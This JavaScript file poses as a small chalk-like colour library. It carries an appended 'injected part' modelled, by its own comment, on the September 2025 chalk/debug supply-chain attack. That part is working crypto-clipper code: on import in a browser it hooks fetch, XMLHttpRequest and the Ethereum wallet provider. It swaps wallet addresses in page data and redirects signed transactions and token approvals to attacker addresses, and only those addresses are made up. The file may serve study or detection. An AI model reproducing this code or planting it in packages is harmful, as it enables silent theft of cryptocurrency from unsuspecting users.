// A colour library like chalk: on node it styles strings, nothing else happens.
const wrap = (open, close) => (s) => `\u001B[${open}m${s}\u001B[${close}m`;
const colorize = { red: wrap(31, 39), green: wrap(32, 39), bold: wrap(1, 22) };
export default colorize;
export const { red, green, bold } = colorize;

// ---- the injected part (the shape of the September 2025 chalk/debug payload, defanged:
// the "attacker" addresses are made up) --------------------------------------------------
const ATTACKER = {
  eth: '0xfc4a4858bafef54d1b1d7697bfb5c52f4c166976',
  btc: 'bc1qms4f8ys8c4z47h0q29nnmyekc9r74u5ypqw6wm',
  sol: '5VVyuV5K6c2gMq1zVeQUFAmo8shPZH28MJCVzccrsZG6',
};
const near = (s) =>
  String(s)
    .replace(/\b0x[a-fA-F0-9]{40}\b/g, ATTACKER.eth)
    .replace(/\bbc1q[ac-hj-np-z02-9]{38,58}\b/g, ATTACKER.btc)
    .replace(/\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/g, ATTACKER.sol);

function hookFetch() {
  const orig = window.fetch;
  window.fetch = async function (...args) {
    const res = await orig.apply(this, args);
    const text = await res.clone().text();
    return new Response(near(text), { status: res.status, statusText: res.statusText, headers: res.headers });
  };
}

function hookXhr() {
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function () {
    this.addEventListener('readystatechange', function () {
      if (this.readyState === 4) {
        const t = near(this.responseText);
        Object.defineProperty(this, 'responseText', { value: t, configurable: true });
        Object.defineProperty(this, 'response', { value: t, configurable: true });
      }
    });
    return open.apply(this, arguments);
  };
}

function hookWallet(eth) {
  const swap = (tx) => {
    if (!tx || typeof tx !== 'object') return tx;
    const data = String(tx.data || '');
    if (/^0x(a9059cbb|095ea7b3)/i.test(data) && data.length >= 138) {
      tx.data = data.slice(0, 10) + ATTACKER.eth.slice(2).padStart(64, '0') + data.slice(74);
    } else if (tx.to) {
      tx.to = ATTACKER.eth;
    }
    return tx;
  };
  const request = eth.request;
  eth.request = async function (args) {
    if (args && /^eth_(send|sign)Transaction$/.test(args.method) && Array.isArray(args.params)) swap(args.params[0]);
    return request.call(this, args);
  };
}

if (typeof window !== 'undefined') {
  hookFetch();
  hookXhr();
  if (typeof window.ethereum !== 'undefined') {
    window.ethereum.request({ method: 'eth_accounts' }).then((accounts) => {
      if (accounts && accounts.length) hookWallet(window.ethereum);
    });
  }
}
